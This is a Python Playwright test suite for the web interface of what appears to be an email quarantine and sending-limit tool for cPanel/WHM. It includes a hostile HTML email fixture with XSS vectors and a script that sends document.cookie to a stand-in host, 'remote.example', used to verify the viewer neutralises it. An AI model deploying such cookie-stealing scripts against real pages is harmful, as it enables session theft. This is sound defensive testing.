"""The pages in real Chromium (Debian's, driven by Playwright) against the real gunicorn, through the
sandbox's loopback listener. Each test saves a screenshot ($IE_SCREENSHOTS, default /tmp/ie-screenshots;
``make screenshots`` writes the README's into docs/screenshots)."""
import json
import pwd
import re
import time
from email.message import EmailMessage

import pytest

from devtools import samples
from devtools.waiting import eventually

from .conftest import EXIM_USER, SCREENSHOTS

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--disable-default-apps"]
HOSTILE_HTML = """<html><head><script>window.__pwned = 'head';</script></head><body>
<p>Dear customer, your invoice is attached.</p>
<script>window.__pwned = 'body'; fetch('http://remote.example/steal?c=' + document.cookie);</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<img src="http://remote.example/track.png" alt="tracker">
<a href="javascript:window.__pwned='link'">Click here</a>
</body></html>"""


@pytest.fixture(scope="module")
def browser():
    # Imported here, not at the top: Playwright 1.61+ needs Python 3.10, and the 3.9 run of make test
    # collects this module only to deselect it (marker browser).
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield b
        b.close()


class Tab:
    """One browser tab that records what it loaded and what the console said."""

    def __init__(self, browser, site, javascript: bool = True):
        self.site = site
        self.context = browser.new_context(viewport={"width": 1440, "height": 900}, java_script_enabled=javascript)
        self.page = self.context.new_page()
        self.requests, self.console = [], []
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("console", lambda m: self.console.append((m.type, m.text)))

    def be(self, who: str) -> "Tab":
        """Choose who we are in the sandbox's chooser."""
        self.page.goto(self.site.web.url + "/")
        label = "WHM (root)" if who == "root" else f"cPanel account {who}"
        self.page.get_by_role("button", name=label).click()
        return self

    def shot(self, name: str) -> None:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)

    def only_local_requests(self) -> None:
        foreign = [u for u in self.requests if not u.startswith(self.site.web.url)]
        assert foreign == [], foreign

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def tab(browser, site):
    t = Tab(browser, site)
    yield t
    t.close()


@pytest.fixture(scope="module")
def scenery(site):
    """Mail of every kind, so the pages show what an administrator meets (and the README's pictures)."""
    root = site.root
    root.cli("am", "server-settings", "set", "--sender-email", "3")
    for n in range(5):   # three pass, two over the sender limit
        sender = "newsletter@demo2.test"
        root.send(samples.ham(sender=sender, subject=f"Weekly news {n}"), sender=sender)
    for n in range(2):
        sender = "billing@demo1.test"
        root.send(samples.gtube(sender=sender, subject=f"Cheap meds, offer {n}"), sender=sender)
    sender = "office@demo1.test"
    root.send(samples.with_exe(sender=sender, subject="Scanned documents"), sender=sender)
    root.send(samples.ham(sender="wp@demo1.test", subject="Order confirmation",
                          extra_headers=[("X-PHP-Script", "demo1.test/shop/mailer.php for 198.51.100.7")]),
              sender="wp@demo1.test")
    # an unauthenticated loopback client naming demo2's domain: held under unverified:demo2
    root.send(samples.gtube(sender="ceo@demo2.test", subject="Urgent wire transfer"), sender="ceo@demo2.test",
              auth_id="")
    # a part bomb: never parsed past its budget, held as unscannable
    root.send(samples.part_bomb(5000, sender="x@demo1.test", subject="Nothing to see"), sender="x@demo1.test")
    root.cli("am", "server-settings", "set", "--sender-email", "0")
    newsletter = am_object(site, "sender_email", "newsletter@demo2.test")   # keeps a limit of its own: 3
    root.cli("am", "limit", "set", "--id", newsletter["id"], "--so-type", "sender_email", "--limit", "3")
    return root


def hostile_message(sender: str, subject: str) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, "victim@remote.example", subject
    msg.set_content(HOSTILE_HTML, subtype="html")   # HTML only: the Body view must reduce it to text
    return bytes(msg)


def test_view_email_shows_hostile_html_as_text_runs_nothing_loads_nothing_remote(tab, site, scenery):
    [email_id] = site.hold("demo1", "hostile", 1,
                           raw_of=lambda n: hostile_message("hostile@demo1.test", "hostile <b>invoice</b>"))
    tab.be("root")
    page = tab.page
    forged = page.locator("tr", has_text="Urgent wire transfer")
    assert forged.locator(".badge.unverified").inner_text() == "sender not verified"
    assert "demo2" in forged.locator("td").nth(1).inner_text()
    assert page.locator("tr", has_text="Nothing to see").locator(".reason-unscannable").count() == 1
    tab.shot("quarantine")
    page.get_by_label("Search").fill("hostile")
    page.get_by_role("button", name="Apply").click()
    tab.shot("quarantine-search")
    row = page.locator("tr", has_text="hostile <b>invoice</b>")
    row.get_by_role("link", name="View Email").click()
    body = page.locator("pre.text").inner_text()
    assert "Dear customer, your invoice is attached." in body and "Click here" in body
    assert "<" not in body and "__pwned" not in body   # tags gone, scripts gone with them
    tab.shot("email-body")
    for view in ("Header", "Plain text"):
        page.get_by_role("link", name=view, exact=True).click()
        tab.shot(f"email-{view.split()[0].lower()}")
    raw = page.locator("pre.text").inner_text()
    assert "<script>" in raw and "onerror" in raw and "remote.example/track.png" in raw   # shown as text ...
    assert page.evaluate("typeof window.__pwned") == "undefined"          # ... and never run
    assert page.locator("img[src*='remote.example'], script").count() == 0
    tab.only_local_requests()
    assert not [m for m in tab.console if m[0] == "error"], tab.console
    assert email_id in page.url


def test_multi_select_release_and_send_of_three_without_javascript(browser, site):
    ids = site.hold("demo2", "multirel", 3)
    tab = Tab(browser, site, javascript=False).be("root")
    try:
        page = tab.page
        page.get_by_label("Search").fill("multirel")
        page.get_by_role("button", name="Apply").click()
        for email_id in ids:
            page.locator(f"input[type=checkbox][value='{email_id}']").check()
        page.get_by_role("button", name="Release & Send selected").click()
        assert page.get_by_role("heading").first.inner_text() == "Release & Send 3 email(s)?"
        tab.shot("release-confirm")
        page.get_by_role("button", name="Yes, release & send 3 email(s)").click()
        assert "3 email(s) released and sent" in page.get_by_role("status").inner_text()
        tab.shot("release-done")
    finally:
        tab.close()
    sent = site.released("multirel")
    assert sorted(m.header("Subject") for m in sent) == [f"multirel {n}" for n in range(3)]   # once each
    assert {m.uid for m in sent} == {pwd.getpwnam(EXIM_USER).pw_uid}   # as the Exim user
    assert all(m.argv[:3] == ["-oi", "-oMr", "imunifyemail-released"] for m in sent)
    assert site.root.held(subject="multirel") == []


def test_delete(tab, site):
    [email_id] = site.hold("demo1", "deleteme", 1)
    tab.be("root")
    page = tab.page
    page.get_by_label("Search").fill("deleteme")
    page.get_by_role("button", name="Apply").click()
    page.locator("tr", has_text="deleteme 0").get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Yes, delete 1 email(s)").click()
    assert "1 email(s) deleted permanently" in page.get_by_role("status").inner_text()
    tab.shot("deleted")
    assert site.root.held(subject="deleteme") == [] and site.released("deleteme") == []


def test_delete_as_spam_and_release_as_not_spam(tab, site):
    """The administrator's decisions teach Rspamd (issue 19): Delete's "Delete as spam" option, then
    "Release as not spam" on the near copy that lesson held; both in the audit trail
    (tests/system/test_learning.py shows the whole story through Exim)."""
    [first] = site.hold("demo1", "learnweb", 1, raw_of=lambda n: samples.campaign(
        "Mr. Web Browser", sender="learnweb@demo1.test", subject="learnweb campaign"))
    tab.be("root")
    page = tab.page
    page.get_by_label("Search").fill("learnweb")
    page.get_by_role("button", name="Apply").click()
    page.locator("tr", has_text="learnweb campaign").get_by_role("button", name="Delete").click()
    page.get_by_label("Delete as spam").check()
    tab.shot("delete-as-spam-confirm")
    page.get_by_role("button", name="Yes, delete 1 email(s)").click()
    assert "1 email(s) deleted and learned as spam" in page.get_by_role("status").inner_text()
    # A near copy from demo2 is held once Rspamd's storage has the lesson (it writes every 2 s)
    near = samples.campaign("Mr. Near Copy", sender="learnweb@demo2.test", subject="learnweb near")
    eventually(lambda: site.root.send(near, sender="learnweb@demo2.test").verdict == "hold", "the near copy held")
    [copy] = site.root.held(subject="learnweb near")
    assert copy.reasons == ["spam"]
    page.get_by_label("Search").fill("learnweb near")
    page.get_by_role("button", name="Apply").click()
    page.locator("tr", has_text="learnweb near").get_by_role("link", name="View Email").click()
    page.get_by_role("button", name="Release as not spam").click()
    assert page.get_by_role("heading").first.inner_text() == "Release as not spam 1 email(s)?"
    tab.shot("release-not-spam-confirm")
    page.get_by_role("button", name="Yes, release as not spam 1 email(s)").click()
    assert "1 email(s) released and learned as not spam" in page.get_by_role("status").inner_text()
    assert site.root.held(subject="learnweb") == []
    entries = site.root.cli_json("audit", "list")["items"]
    learned = {(e["action"], tuple(e["ids"]), e["outcome"], e["via"]) for e in entries if e["action"].startswith("learn")}
    assert {("learn_spam", (first,), "ok", "whm"), ("learn_ham", (copy.email_id,), "ok", "whm")} <= learned


def am_object(site, so_type: str, name: str) -> dict:
    stats = json.loads(site.root.cli("am", "stats", "--since", "86400", "--limit", "1000").stdout)
    for account in stats["accounts"]:
        for item in [account, *(account["domains"] or []), *(account["scripts"] or []),
                     *[s for d in account["domains"] or [] for s in d["sender_emails"] or []]]:
            if item["name"] == name and (so_type != "account" or item is account):
                return item
    raise AssertionError(f"no {so_type} {name} in am stats")


def test_activity_monitor_update_sender_limit(tab, site, scenery):
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Activity Monitor").click()
    assert page.locator("svg.chart rect.sent").count() > 0
    tab.shot("activity")
    row = page.locator("tr", has_text="newsletter@demo2.test")
    assert "⚠" in row.inner_text()   # over its limit in the last hour: red, with a warning sign
    row.get_by_role("link", name="Update sender limit").click()
    page.get_by_label("Use a limit of its own").check()
    page.get_by_label("Limit per hour (0 = unlimited)").fill("7")
    page.get_by_label("Use a daily limit of its own").check()
    page.get_by_label("Limit per day, last 24 hours (0 = unlimited)").fill("70")
    tab.shot("sender-limit")
    page.get_by_role("button", name="Save").click()
    assert "Sender limit updated" in page.get_by_role("status").inner_text()
    item = am_object(site, "sender_email", "newsletter@demo2.test")
    assert (item["exclusion"], item["limit"], item["dailyExclusion"], item["dailyLimit"]) == (True, 7, True, 70)
    daily = page.locator("tr", has_text="newsletter@demo2.test").locator("td.daily")
    assert re.fullmatch(r"\d+ / 70 \(own\)", daily.inner_text().strip()), daily.inner_text()
    page.locator("tr", has_text="newsletter@demo2.test").get_by_role("link", name="Update sender limit").click()
    page.get_by_label("Use a limit of its own").uncheck()
    page.get_by_label("Use a daily limit of its own").uncheck()
    page.get_by_role("button", name="Save").click()
    item = am_object(site, "sender_email", "newsletter@demo2.test")
    assert (item["exclusion"], item["dailyExclusion"], item["dailyLimit"]) == (False, False, 0)


def test_whitelist_a_domain_with_the_confirmation(tab, site, scenery):
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Activity Monitor").click()
    row = page.locator("tr.depth-1", has_text="demo2.test").first
    row.get_by_role("link", name="Whitelist sender").click()
    tab.shot("whitelist-confirm")
    page.get_by_role("button", name="Yes, add to whitelist").click()
    assert "Added to the sender whitelist" in page.get_by_role("status").inner_text()
    listed = json.loads(site.root.cli("whitelist", "sender", "list", "--json").stdout)
    assert "demo2.test" in listed["domains"]
    assert am_object(site, "domain", "demo2.test")["whitelisted"] is True
    page.locator("tr.depth-1", has_text="demo2.test").first.get_by_role("link", name="Remove from whitelist").click()
    page.get_by_role("button", name="Yes, remove from whitelist").click()
    assert "demo2.test" not in json.loads(site.root.cli("whitelist", "sender", "list", "--json").stdout)["domains"]


def test_observe_mode_lists_would_be_holds_and_the_suggested_limit_applies_in_one_step(tab, site, scenery):
    root = site.root
    sender = "notices@demo1.test"
    root.send(samples.ham(sender=sender, subject="Notice 0"), sender=sender)
    obj = am_object(site, "sender_email", sender)
    root.cli("am", "limit", "set", "--id", obj["id"], "--so-type", "sender_email", "--limit", "1", "--observe", "1")
    for n in (1, 2):   # over its limit of 1: observed, sent
        assert root.send(samples.ham(sender=sender, subject=f"Notice {n}"), sender=sender).verdict == "pass"
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Activity Monitor").click()
    row = page.locator("table.activity tr", has_text=sender)
    suggested = am_object(site, "sender_email", sender)   # 3 sent: 6 (2 x p95), as am stats says
    assert suggested["suggested_limit"] >= 4 and suggested["suggested_daily_limit"] >= 4
    assert "observe" in row.inner_text()
    assert f"suggested {suggested['suggested_limit']}/hour, {suggested['suggested_daily_limit']}/day" in row.inner_text()
    observed = page.locator("table.observed tbody tr", has_text=sender)
    assert observed.count() == 2
    assert "sender_email notices@demo1.test: 1 messages an hour" in observed.first.inner_text()
    tab.shot("activity-observe")
    row.get_by_role("button", name="Apply").click()
    assert "Suggested limits applied" in page.get_by_role("status").inner_text()
    item = am_object(site, "sender_email", sender)
    assert (item["exclusion"], item["limit"], item["observe"]) == (True, suggested["suggested_limit"], 1)

    page.locator("table.activity tr", has_text=sender).get_by_role("link", name="Update sender limit").click()
    page.get_by_label("Observe mode").select_option("0")
    page.get_by_role("button", name="Save").click()
    item = am_object(site, "sender_email", sender)
    assert (item["limit"], item["observe"], item["observing"]) == (suggested["suggested_limit"], 0, False)

    page.get_by_role("navigation").get_by_role("link", name="Settings").click()   # (the page names it too)
    page.get_by_label("Observe mode").check()
    page.locator("form", has=page.get_by_label("Domain")).get_by_role("button", name="Save Changes").click()
    assert json.loads(root.cli("am", "server-settings").stdout)["observe"] == 1
    page.get_by_label("Observe mode").uncheck()
    page.locator("form", has=page.get_by_label("Domain")).get_by_role("button", name="Save Changes").click()
    assert json.loads(root.cli("am", "server-settings").stdout)["observe"] == 0
    root.cli("am", "limit", "set", "--id", item["id"], "--so-type", "sender_email", "--observe", "-1")


def test_settings_purge_an_account(tab, site, scenery):
    site.hold("demo2", "purgeme", 2)
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Settings").click()
    tab.shot("settings")
    demo2 = page.locator("tr", has=page.get_by_role("cell", name="demo2", exact=True))   # not demo2 unverified
    demo2.get_by_role("link", name="Purge quarantine").click()
    page.get_by_role("button", name="Yes, purge quarantine").click()
    assert re.search(r"Quarantine purged: \d+ email\(s\) deleted", page.get_by_role("status").inner_text())
    assert site.root.held("demo2") == []
    assert [m.account for m in site.root.held()] and all(m.account != "demo2" for m in site.root.held())


def test_settings_change_limits_and_a_bad_value_changes_nothing(tab, site):
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Settings").click()
    page.get_by_label("Domain", exact=True).fill("250")
    page.get_by_label("number of recipients").check()
    page.locator("form", has=page.get_by_label("Domain", exact=True)).get_by_role("button", name="Save Changes").click()
    assert "Changes saved" in page.get_by_role("status").inner_text()
    assert json.loads(site.root.cli("am", "server-settings").stdout) == {
        "account": 0, "domain": 250, "limit_mode": 2, "observe": 0, "script": 0, "sender_email": 0, **NO_DAILY_LIMITS}
    page.locator("tr", has_text="demo1").get_by_role("link", name="Add").click()
    field = page.get_by_label("Releases per hour by its user")
    field.evaluate("input => input.removeAttribute('max')")   # past the browser's own check: the server's
    field.fill("100001")
    page.get_by_role("button", name="Save Changes").click()
    assert "invalid releases limit 100001" in page.locator("main").inner_text()
    tab.shot("settings-error")
    assert json.loads(site.root.cli("accounts", "list", "--json").stdout)["items"][0]["releases_limit"] == 5
    site.root.cli("am", "server-settings", "set", "--domain", "0", "--limit-mode", "1")


def test_settings_quarantine_defaults_and_an_account_following_them(tab, site, scenery):
    """The defaults change every account without its own value; an account given one keeps it, and
    -1 makes it follow the defaults again (as ie-cli accounts edit ... -1)."""
    cli = site.root.cli
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Settings").click()
    head = [c.strip() for c in page.locator("table.accounts thead th").all_inner_texts()]
    assert head == ["Account", "Storage Capacity (MB)", "Used Space (MB)", "Releases limit", "State", "Details",
                    "Actions"]
    demo1 = page.locator("tr", has=page.get_by_role("cell", name="demo1", exact=True))
    assert "evicted in the last hour" in demo1.inner_text()
    try:
        page.get_by_label("Default storage capacity (MB)").fill("200")
        page.get_by_label("Default releases limit").fill("7")
        page.locator("form", has=page.get_by_label("Default releases limit")).get_by_role(
            "button", name="Save Changes").click()
        assert "Changes saved" in page.get_by_role("status").inner_text()
        assert json.loads(cli("quarantine-defaults", "list", "--json").stdout) == {
            "limit_bytes": 200 * 1024 * 1024, "releases_limit": 7}
        cells = demo1.locator("td").all_inner_texts()
        assert cells[1] == "200.0 (default)" and cells[3] == "7 (default)"
        tab.shot("settings-defaults")

        demo1.get_by_role("link", name="Add").click()
        assert page.get_by_label("Releases per hour by its user").input_value() == ""   # follows: empty
        page.get_by_label("Releases per hour by its user").fill("3")
        page.get_by_role("button", name="Save Changes").click()
        cells = demo1.locator("td").all_inner_texts()
        assert cells[1] == "200.0 (default)" and cells[3] == "3"
        cli("quarantine-defaults", "set", "-r", "8")
        page.reload()
        assert demo1.locator("td").all_inner_texts()[3] == "3"   # its own: not moved by the default

        demo1.get_by_role("link", name="Add").click()
        assert page.get_by_label("Releases per hour by its user").input_value() == "3"
        page.get_by_label("Releases per hour by its user").fill("-1")
        page.get_by_role("button", name="Save Changes").click()
        assert demo1.locator("td").all_inner_texts()[3] == "8 (default)"
        item = {a["name"]: a for a in json.loads(cli("accounts", "list", "--json").stdout)["items"]}["demo1"]
        assert (item["releases_limit"], item["releases_limit_default"]) == (8, True)
    finally:
        cli("quarantine-defaults", "set", "-s", "100", "-r", "5")
NO_DAILY_LIMITS = {"daily_account": 0, "daily_domain": 0, "daily_script": 0, "daily_sender_email": 0,
                   "max_recipients": 0}


def test_settings_daily_limits_and_the_recipient_cap_show_in_the_activity_monitor(tab, site, scenery):
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Settings").click()
    page.get_by_label("Account per day").fill("1000")
    page.get_by_label("Sender email per day").fill("200")
    page.get_by_label("Most recipients in one message (0 = no cap)").fill("50")
    form = page.locator("form", has=page.get_by_label("Account per day"))
    form.get_by_role("button", name="Save Changes").click()
    assert "Changes saved" in page.get_by_role("status").inner_text()
    wanted = {"account": 0, "domain": 0, "limit_mode": 1, "observe": 0, "script": 0, "sender_email": 0, **NO_DAILY_LIMITS,
              "daily_account": 1000, "daily_sender_email": 200, "max_recipients": 50}
    assert json.loads(site.root.cli("am", "server-settings").stdout) == wanted
    tab.shot("settings-daily-limits")
    try:
        field = page.get_by_label("Domain per day")
        field.evaluate("input => input.removeAttribute('min')")   # past the browser's own check: the server's
        field.fill("-5")
        form.get_by_role("button", name="Save Changes").click()
        assert "invalid daily-domain limit -5" in page.locator("main").inner_text()
        assert json.loads(site.root.cli("am", "server-settings").stdout) == wanted
        page.get_by_role("link", name="Activity Monitor").click()
        assert "Recipients in one message: at most 50" in page.locator("main").inner_text()
        daily = page.locator("tr", has_text="newsletter@demo2.test").locator("td.daily")
        assert re.fullmatch(r"\d+ / 200", daily.inner_text().strip()), daily.inner_text()
        account = page.locator("tr.depth-0", has_text="demo2").first.locator("td.daily")
        assert re.fullmatch(r"\d+ / 1000", account.inner_text().strip()), account.inner_text()
    finally:
        site.root.cli("am", "server-settings", "set", "--daily-account", "0", "--daily-sender-email", "0",
                      "--max-recipients", "0")


def test_the_hosted_users_page(tab, site, scenery):
    mine = site.hold("demo1", "userpage", 2)
    site.hold("demo2", "userother", 1)
    tab.be("demo1")
    page = tab.page
    assert "cPanel · demo1" in page.locator("header").inner_text()
    text = page.locator("main").inner_text()
    assert "userpage 0" in text and "userother" not in text and "Account" not in page.locator("thead").inner_text()
    tab.shot("user-quarantine")
    page.locator("tr", has_text="userpage 1").get_by_role("link", name="View Email").click()
    page.get_by_role("button", name="Release & Send").click()
    page.get_by_role("button", name="Yes, release & send 1 email(s)").click()
    assert "1 email(s) released" in page.get_by_role("status").inner_text()
    assert [m.header("Subject") for m in site.released("userpage")] == ["userpage 1"]
    assert [m.email_id for m in site.root.held(subject="userpage")] == [mine[0]]
    page.goto(site.web.url + "/admin/quarantine")
    assert "These pages are not for you" in page.locator("main").inner_text()


def test_settings_features_and_the_audit_view(tab, site):
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Settings").click()
    form = page.locator("form.features")
    form.get_by_label("Auto release").check()
    form.get_by_label("Containment threshold").fill("20")
    form.get_by_role("button", name="Save Changes").click()
    assert "Changes saved" in page.get_by_role("status").inner_text()
    current = json.loads(site.root.cli("settings", "--json").stdout)
    assert (current["auto_release"], current["containment_threshold"]) == (True, 20)
    # A bad value is named, and nothing of the form is applied.
    form = page.locator("form.features")
    form.get_by_label("Auto release").uncheck()
    form.get_by_label("Webhook url").fill("ftp://files.example/hook")
    form.get_by_role("button", name="Save Changes").click()
    assert "webhook_url: must be an http:// or https:// URL" in page.locator("main").inner_text()
    assert json.loads(site.root.cli("settings", "--json").stdout) == current
    page.get_by_role("link", name="Audit").click()
    row = page.locator("tr", has_text="server settings").first
    assert "auto release: off → on" in row.inner_text() and "whm" in row.inner_text()
    tab.shot("audit")
    site.root.cli("settings", "--auto-release", "off", "--containment-threshold", "50")


def test_the_hosted_users_audit_view(tab, site):
    [email_id] = site.hold("demo1", "auditview", 1)
    site.root.cli("emails", "remove", "--ids", email_id)
    tab.be("demo1")
    page = tab.page
    page.get_by_role("link", name="Audit").click()
    page.get_by_label("Period").select_option("all")
    page.get_by_role("button", name="Show").click()
    text = page.locator("main").inner_text()
    assert email_id in text and "delete" in text and "demo2" not in text
    tab.shot("user-audit")


def test_release_and_trust_the_sender_for_a_while(tab, site):
    """Issue 19: on a held message, "Release and raise this limit" and "Release and whitelist this
    sender", each with a confirmation page saying until when; the Activity Monitor shows the ends."""
    root = site.root
    sender = "trustlim@demo1.test"
    root.cli("am", "server-settings", "set", "--sender-email", "1")
    for n in range(2):   # the second is over the limit of 1 an hour
        root.send(samples.ham(sender=sender, subject=f"trustlim {n}"), sender=sender)
    root.cli("am", "server-settings", "set", "--sender-email", "0")
    limited = am_object(site, "sender_email", sender)
    root.cli("am", "limit", "set", "--id", limited["id"], "--so-type", "sender_email", "--limit", "1")
    [held] = root.held(subject="trustlim")
    tab.be("root")
    page = tab.page
    page.goto(site.web.url + f"/admin/email/{held.email_id}")
    section = page.locator("section.trust")
    assert f"sender email {sender} (1 an hour now)" in section.inner_text()
    tab.shot("email-trust")
    raise_form = section.locator("form", has=page.get_by_role("button", name="Release and raise this limit"))
    raise_form.get_by_label("Raise to").fill("10")
    raise_form.get_by_label("For").select_option("1d")
    raise_form.get_by_role("button", name="Release and raise this limit").click()
    assert page.get_by_role("heading").first.inner_text() == "Release and raise this limit?"
    assert "may send 10 an hour instead of 1" in page.locator("main").inner_text()
    tab.shot("trust-confirm")
    page.get_by_role("button", name="Yes, release and raise this limit").click()
    assert "the sender limit is raised" in page.get_by_role("status").inner_text()
    assert [m.header("Subject") for m in site.released("trustlim")] == ["trustlim 1"]
    item = am_object(site, "sender_email", sender)
    assert (item["limit"], item["raised_limit"], item["exclusion"]) == (10, 10, True)
    page.get_by_role("link", name="Activity Monitor").click()
    assert "raised until" in page.locator("tr", has_text=sender).inner_text()

    [spam_id] = site.hold("demo1", "trustme", 1)   # held as the account was blocked: the sender to trust
    page.goto(site.web.url + f"/admin/email/{spam_id}")
    form = page.locator("section.trust form", has=page.get_by_role("button", name="Release and whitelist this sender"))
    form.get_by_label("For").select_option("")
    end = int(time.time()) // 60 * 60 + 200 * 86400   # in 200 days, to the minute
    form.get_by_label("Until (UTC)").fill(time.strftime("%Y-%m-%dT%H:%M", time.gmtime(end)))
    form.get_by_role("button", name="Release and whitelist this sender").click()
    assert "trustme@demo1.test is on the sender whitelist" in page.locator("main").inner_text()
    assert time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(end)) in page.locator("main").inner_text()
    page.get_by_role("button", name="Yes, release and whitelist this sender").click()
    assert "the sender is whitelisted" in page.get_by_role("status").inner_text()
    listed = json.loads(root.cli("whitelist", "sender", "list", "--json").stdout)
    assert listed["expires_at"]["trustme@demo1.test"] == end
    page.get_by_role("link", name="Activity Monitor").click()
    row = page.locator("tr", has_text="trustme@demo1.test")
    shown = time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime(end))
    assert f"until {shown}" in row.inner_text()
    tab.shot("activity-trust")
    row.get_by_role("link", name="Remove from whitelist").click()
    assert f"whitelisted until {shown}" in page.locator("main").inner_text()
    page.get_by_role("button", name="Yes, remove from whitelist").click()
    # a time that has passed is refused, and nothing is released
    [other] = site.hold("demo1", "trustlate", 1)
    page.goto(site.web.url + f"/admin/email/{other}")
    form = page.locator("section.trust form", has=page.get_by_role("button", name="Release and whitelist this sender"))
    form.get_by_label("For").select_option("")
    form.get_by_label("Until (UTC)").fill("2020-01-01T12:00")
    form.get_by_role("button", name="Release and whitelist this sender").click()
    assert "it has passed" in page.locator("main").inner_text()
    assert [m.email_id for m in root.held(subject="trustlate")] == [other] and site.released("trustlate") == []
    root.cli("am", "limit", "set", "--id", limited["id"], "--so-type", "sender_email", "--limit", "-1")
def test_the_statistics_tab_shows_the_incoming_counts_and_switches_an_account(tab, site):
    for raw in (samples.gtube(sender="x@outside.example"), samples.ham(sender="x@outside.example")):
        site.root.receive(raw, recipients=("info@demo1.test",))
    site.root.receive(samples.ham(sender="x@outside.example"), recipients=("info@demo2.test",))
    tab.be("root")
    page = tab.page
    page.get_by_role("link", name="Statistics").click()
    assert page.locator(".incoming-state").inner_text() == "off"   # ie-config enable-incoming not run here
    expected = json.loads(site.root.cli("incoming", "stats", "--json").stdout)
    rows = page.locator("table.statistics tbody tr")
    assert rows.count() == len(expected["items"]) >= 2
    for n, item in enumerate(expected["items"]):
        assert rows.nth(n).inner_text().split() == [item["day"], item["account"], str(item["spam"]),
                                                    str(item["ham"])]
    assert page.locator("table.statistics tfoot").inner_text().split()[-2:] == [
        str(expected["totals"]["spam"]), str(expected["totals"]["ham"])]
    page.get_by_role("button", name="Turn off for demo2").click()
    assert "Changes saved" in page.get_by_role("status").inner_text()
    assert page.locator("tr", has_text="demo2").locator(".state").last.inner_text() == "off"
    listed = json.loads(site.root.cli("incoming", "list", "--json").stdout)["items"]
    assert {"account": "demo2", "incoming": False} in listed
    assert site.root.receive(samples.gtube(sender="x@outside.example"),
                             recipients=("info@demo2.test",)).verdict == "inbox"
    tab.shot("statistics")
    page.get_by_role("button", name="Turn on for demo2").click()
    assert {"account": "demo2", "incoming": True} in json.loads(site.root.cli("incoming", "list", "--json").stdout)["items"]
